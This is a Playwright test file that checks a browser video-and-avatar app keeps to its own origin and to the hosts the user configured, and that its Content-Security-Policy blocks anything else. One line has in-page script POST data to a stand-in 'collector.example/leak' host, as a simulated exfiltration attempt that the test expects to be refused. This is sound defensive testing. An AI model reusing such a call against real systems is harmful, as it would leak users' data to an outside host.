/**
 * Privacy, twice:
 * - a whole session that asks for nothing outside — paste a product page, write scripts, build
 *   and play the preview, export and download, make a photo avatar — while every request that
 *   would leave the app's own origin is blocked and recorded, and every Content-Security-Policy
 *   violation (pages, frames, workers) is collected: both lists stay empty;
 * - a session that does reach out, every way a user can ask it to (a product link through their
 *   proxy, its pictures, their script-writer server, a model download from a local stand-in of
 *   the hub): every request the browser issues is listed, and only the hosts the user set up
 *   appear; the shop hears only from the proxy (its own log says so).
 * The attacker's side — script in the page trying to reach a host nobody set up — is
 * e2e/gateway-attack.spec.ts.
 */
import { expect, test, type Page } from '@playwright/test';
import { readFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { fileURLToPath } from 'node:url';
import { chatReply, startFakeLlm } from '../scripts/lib/fake-llm.ts';
import { serveStatic } from '../scripts/lib/static.ts';
import { portrait } from './fixtures/faces.ts';
import { startHub } from './lib/hub.ts';
import { addExampleImages, writeAndPreview } from './flow.ts';
import { ffprobe } from './media.ts';

const fixture = (name: string) => readFileSync(fileURLToPath(new URL(`../src/product/fixtures/${name}`, import.meta.url)), 'utf8');

/** CSP violations reported to the page's script, from any frame, and any "Refused to …" console line (workers). */
async function watchPolicy(page: Page): Promise<string[]> {
  const seen: string[] = [];
  await page.exposeFunction('__reportViolation', (v: string) => seen.push(v));
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (e) => {
      (window as unknown as { __reportViolation: (v: string) => void }).__reportViolation(`${e.effectiveDirective} blocked ${e.blockedURI} (${e.sourceFile}:${e.lineNumber})`);
    });
  });
  page.on('console', (m) => {
    if (/Content Security Policy|Refused to/i.test(m.text())) seen.push(`console: ${m.text()}`);
  });
  return seen;
}

test('a full session stays on the app’s own origin with zero policy violations', async ({ page, context, baseURL }, testInfo) => {
  const origin = new URL(baseURL!).origin;
  const outside: string[] = [];
  await context.route('**/*', (route) => {
    const url = route.request().url();
    if (new URL(url).origin === origin) return route.continue();
    outside.push(url);
    return route.abort('blockedbyclient');
  });
  const violations = await watchPolicy(page);

  const response = await page.goto('/');
  // The policy is delivered both ways: header (reaches workers) and <meta> (any static host).
  const header = response!.headers()['content-security-policy'] ?? '';
  expect(header).toContain("connect-src 'self' blob: data:");
  expect(header).toContain("script-src 'self' 'wasm-unsafe-eval'");
  expect(header).toContain("frame-ancestors 'self'");
  expect(await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content')).toContain("connect-src 'self'");

  // Product from a pasted page: parsing requests nothing.
  await page.getByTestId('import-tab-source').click();
  await page.getByTestId('import-source').fill(fixture('shopify-kettle.html'));
  await page.getByTestId('import-parse-source').click();
  await expect(page.getByTestId('product-name')).toHaveValue('Aurora Pour-Over Kettle');
  await addExampleImages(page);

  // Scripts, voice, preview, export, download.
  await writeAndPreview(page);
  await page.getByTestId('export').click();
  await expect(page.getByTestId('export-done')).toBeVisible({ timeout: 180_000 });
  const [download] = await Promise.all([page.waitForEvent('download'), page.getByTestId('download').click()]);
  const file = testInfo.outputPath('private.mp4');
  await download.saveAs(file);
  expect(ffprobe(file).streams.map((s) => s.codec_name).sort()).toEqual(['aac', 'h264']);

  // A photo avatar: face detection (onnxruntime-web, BlazeFace), the self-check, the talking
  // preview, saved to the library — all from the app's own files.
  await page.goto('/#/avatars');
  await page.getByRole('radio', { name: /A photo/ }).click();
  await page.getByTestId('avatar-file').setInputFiles(portrait('man'));
  await expect(page.getByTestId('check-report')).toHaveAttribute('data-status', 'pass', { timeout: 90_000 });
  await expect(page.getByTestId('avatar-talk')).toHaveAttribute('data-state', /ready|playing/, { timeout: 60_000 });
  await page.getByTestId('avatar-name').fill('Private');
  await page.getByTestId('avatar-save').click();
  await expect(page.getByTestId('avatar-card')).toHaveCount(1);

  expect(outside).toEqual([]);
  expect(violations).toEqual([]);

  // The policy is not decoration: a script on the page cannot reach another site, even one the
  // route above would let through, and the attempt is reported.
  const attempt = await page.evaluate(() => fetch('https://collector.example/leak', { method: 'POST', body: 'x' }).then(() => 'sent', () => 'refused'));
  expect(attempt).toBe('refused');
  await expect.poll(() => violations.some((v) => v.includes('connect-src') && v.includes('collector.example'))).toBe(true);
  expect(outside).toEqual([]);
});

test('a session that reaches out — link through the user\'s proxy, their pictures, the script writer, a model download — contacts only the hosts the user set up', async ({ page, context, baseURL }) => {
  test.setTimeout(240_000);
  const app = new URL(baseURL!).origin;
  // The shop: a product page and its pictures. Only the user's proxy may reach it.
  const shopLog: string[] = [];
  const shop = await serveStatic([{ prefix: '/img/', dir: fileURLToPath(new URL('../examples/', import.meta.url)) }], {
    handle: (req, res) => {
      shopLog.push(`${req.headers['x-via'] ?? 'browser'} ${req.url}`);
      if (req.url !== '/products/aurora') return false;
      const product = { '@context': 'https://schema.org', '@type': 'Product', name: 'Aurora Insulated Bottle', description: 'A double-wall steel bottle that keeps drinks cold for 24 hours.', image: ['/img/bottle-hero.jpg', '/img/bottle-colours.jpg'], offers: { '@type': 'Offer', price: '34.00', priceCurrency: 'USD' } };
      res.writeHead(200, { 'Content-Type': 'text/html' }).end(`<!doctype html><title>Aurora</title><script type="application/ld+json">${JSON.stringify(product)}</script>`);
      return true;
    },
  });
  // The user's CORS proxy: fetches the page or picture itself and answers with CORS.
  const proxy = createServer(async (req, res) => {
    const target = new URL(req.url ?? '/', 'http://x').searchParams.get('url') ?? '';
    res.setHeader('Access-Control-Allow-Origin', '*');
    if (!target.startsWith(shop.url)) return void res.writeHead(403).end();
    const upstream = await fetch(target, { headers: { 'x-via': 'proxy' } });
    res.writeHead(upstream.status, { 'Content-Type': upstream.headers.get('content-type') ?? 'application/octet-stream', 'Cross-Origin-Resource-Policy': 'cross-origin' }).end(Buffer.from(await upstream.arrayBuffer()));
  });
  await new Promise<void>((ok) => proxy.listen(0, '127.0.0.1', ok));
  const proxyBase = `http://127.0.0.1:${(proxy.address() as AddressInfo).port}`;
  const writer = await startFakeLlm({ cors: true });
  writer.reply = chatReply(JSON.stringify({ options: [] }));
  const hub = await startHub();
  // Every request the browser issues, from every page, frame and worker.
  const origins = new Set<string>();
  context.on('request', (r) => origins.add(new URL(r.url()).origin));
  const violations = await watchPolicy(page);
  try {
    await page.goto('/');
    // 1. A product link, through the proxy the user set up.
    await page.getByTestId('link-settings').click();
    await page.getByTestId('proxy-input').fill(`${proxyBase}/?url=`);
    await page.getByTestId('proxy-save').click();
    await page.getByTestId('import-link').fill(`${shop.url}/products/aurora`);
    await page.getByTestId('import-parse').click();
    await expect(page.getByTestId('product-name')).toHaveValue('Aurora Insulated Bottle');
    await page.getByTestId('import-add-images').click();
    await expect(page.getByTestId('image-thumb')).toHaveCount(2, { timeout: 60_000 });
    // 2. The script writer on the user's own "model server".
    await page.getByTestId('writer-settings').locator('summary').click();
    await page.getByTestId('writer-url').fill(writer.base);
    await page.getByTestId('writer-url').press('Tab');
    await page.getByTestId('writer-enabled').check();
    await page.getByTestId('generate-scripts').click();
    await expect(page.getByTestId('script-option').first()).toBeVisible({ timeout: 60_000 });
    expect(writer.calls.length).toBe(1);
    // 3. A natural voice from the (stand-in) model hub, in one click.
    await page.getByTestId('voice-offer').getByTestId('voice-offer-get').click();
    await page.getByTestId('voice-offer').getByTestId('voice-offer-confirm').click();
    await expect(page.getByTestId('voice-offer')).toHaveCount(0, { timeout: 60_000 });

    // Only the hosts the user set up were contacted; the shop only ever heard from the proxy.
    const allowed = new Set([app, proxyBase, new URL(writer.base).origin, hub.hub, hub.cdn]);
    expect([...origins].filter((o) => /^https?:/.test(o) && !allowed.has(o))).toEqual([]);
    expect([...origins]).toEqual(expect.arrayContaining([proxyBase, new URL(writer.base).origin, hub.hub, hub.cdn]));
    expect(shopLog.length).toBeGreaterThanOrEqual(3);
    expect(shopLog.filter((l) => !l.startsWith('proxy '))).toEqual([]);
    expect(violations).toEqual([]);
  } finally {
    await shop.close();
    await new Promise<void>((ok) => proxy.close(() => ok()));
    await writer.close();
    await hub.close();
  }
});
